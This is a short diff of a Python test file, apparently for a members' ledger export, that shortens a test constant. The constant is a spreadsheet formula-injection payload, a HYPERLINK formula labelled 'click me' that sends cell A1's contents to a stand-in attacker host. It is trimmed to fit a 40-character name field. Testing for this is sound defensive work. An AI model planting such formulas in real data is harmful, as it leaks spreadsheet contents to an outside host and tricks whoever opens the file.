@@ -19,7 +19,7 @@ from tests.members.test_ledger_pages import _points
 
 pytestmark = pytest.mark.usefixtures("frozen_now")
 
-EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+EVIL = '=HYPERLINK("http://e.vil/?"&A1,"点我")'  # fits a member's name (40)
 
 
 @pytest.mark.parametrize(
